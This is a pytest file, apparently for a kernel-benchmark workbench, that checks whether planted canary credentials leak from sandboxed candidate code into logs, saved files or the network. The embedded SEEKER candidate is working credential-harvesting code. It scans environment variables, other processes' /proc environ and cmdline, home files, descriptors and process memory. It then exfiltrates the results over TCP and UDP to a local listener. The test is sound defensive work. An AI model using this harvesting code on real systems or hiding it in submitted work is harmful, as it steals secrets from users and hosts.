"""A key and a secret in the environment are found in nothing that a session writes or shows, and reach no server.

The candidate looks for them wherever it can: its environment, those of other processes, the command lines, the files
of the user, open descriptors and its own memory. It prints, raises and sends what it found.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from workbench import executors, problems
from workbench.session import Session
from workbench.views.notebook.panel import Panel
from workbench.views.text import report

KEY, SECRET = "sk-canary-5c1d8e", "hunter2-canary-7f"
SEEKER = """import glob
import os
import socket

import torch

found = [repr(dict(os.environ))]
places = ["/proc/self/environ", "/proc/self/cmdline", HOME + "/.secret", "../given/job.json"]
places += [f"/proc/{number}/{name}" for number in range(1, 400) for name in ("environ", "cmdline")]
places += [f"/proc/{number}/environ" for number in (os.getppid(), PARENT)] + glob.glob("/proc/self/fd/*")
for place in places:
    try:
        with open(place, "rb", buffering=0) as file:
            os.set_blocking(file.fileno(), False)
            found.append(repr(file.read(1 << 16)))
    except OSError:
        pass
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", buffering=0) as memory:
    for line in maps:
        first, last = (int(end, 16) for end in line.split()[0].split("-"))
        if "[heap]" in line or "[stack]" in line:
            memory.seek(first)
            held = memory.read(last - first)
            at = held.find(b"-canary-")
            found.append(repr(held[max(at - 40, 0) : at + 40]) if at >= 0 else "")
text = "\\n".join(one for one in found if "can" + "ary" in one or len(one) < 4000)
print("seen:", text[:200000])
for make in (lambda: socket.create_connection(("127.0.0.1", PORT), timeout=1),
             lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(text.encode()[:500], ("127.0.0.1", PORT))):
    try:
        make()
    except OSError:
        pass


class ModelNew(torch.nn.Module):
    def forward(self, x):
        raise ValueError(text[:100000])
"""


def listen() -> tuple[int, list[bytes]]:
    """A server on loopback, TCP and UDP, and what it hears."""
    heard: list[bytes] = []
    stream = socket.create_server(("127.0.0.1", 0))
    port = stream.getsockname()[1]
    datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    datagrams.bind(("127.0.0.1", port))

    def accept() -> None:
        while True:
            connection, _ = stream.accept()
            heard.append(connection.recv(1 << 16))

    def receive() -> None:
        while True:
            heard.append(datagrams.recv(1 << 16))

    for work in (accept, receive):
        threading.Thread(target=work, daemon=True).start()
    return port, heard


@pytest.fixture
def planted(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """The canaries, before the worker server starts."""
    executors.shutdown()
    monkeypatch.delenv("OPENAI_BASE_URL", raising=False)
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    monkeypatch.setenv("DATABASE_PASSWORD", SECRET)
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    (tmp_path / "home").mkdir()
    (tmp_path / "home" / ".secret").write_text(f"{KEY} {SECRET}")


def test_a_candidate_finds_no_secret_and_none_is_written_or_sent(
    planted: None, tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    port, heard = listen()
    source = SEEKER.replace("PORT", str(port)).replace("PARENT", str(os.getpid()))
    source = source.replace("HOME", repr(str(tmp_path / "home")))
    problem = problems.load("relu", settings=(("batch_size", 31), ("dim", 63)))
    with Session.create(problem, root=tmp_path / "sessions", executor="emulator") as session:
        version = session.edit(source, title="seeks")
        outcome = version.trials[-1].outcome
        assert outcome.failure is not None and outcome.failure.kind == "exception"
        assert "seen: {" in outcome.output_text and "'PATH'" in outcome.output_text  # it has looked
        panel = Panel(session)
        shown = [json.dumps([panel.state, panel.live], default=str), repr(session), repr(version)]
        panel.close()
        session.save_recording(tmp_path / "sessions" / "recording.json", "a canary")
        (tmp_path / "sessions" / "report.html").write_text(report.html_page(session))
        (tmp_path / "sessions" / "notebook.ipynb").write_text(str(report.make_notebook(session, tmp_path)))
    shown += [outcome.output_text, *capfd.readouterr()]
    searched = [path for path in (tmp_path / "sessions").rglob("*") if path.is_file()]
    assert len(searched) >= 5
    for canary in (KEY, SECRET):
        assert not [path for path in searched if canary.encode() in path.read_bytes()]
        assert not [text[:80] for text in shown if canary in text]
    assert not heard


@pytest.mark.slow
def test_the_command_and_its_children_show_no_secret(planted: None, tmp_path: Path) -> None:
    """Verdict, JSON and error texts of `cutegen`, in a process of its own with the canaries in its environment."""
    port, heard = listen()
    (tmp_path / "candidate.py").write_text(
        SEEKER.replace("PORT", str(port)).replace("PARENT", "1").replace("HOME", repr(str(tmp_path / "home")))
    )
    for arguments in (["test", "relu", "candidate.py", "--json"], ["test", "relu", "missing.py"], ["doctor", "--json"]):
        done = subprocess.run(
            [sys.executable, "-m", "workbench", *arguments],
            cwd=tmp_path,
            env={**os.environ, "CUTEGEN_ROOT": str(tmp_path / "root"), "CUTEGEN_CACHE": str(tmp_path / "cache")},
            capture_output=True,
            text=True,
        )
        assert done.stdout or done.stderr
        assert not [one for one in (KEY, SECRET) if one in done.stdout + done.stderr]
    written = [path for name in ("root", "cache") for path in (tmp_path / name).rglob("*") if path.is_file()]
    assert not [path for path in written if any(one.encode() in path.read_bytes() for one in (KEY, SECRET))]
    assert not heard
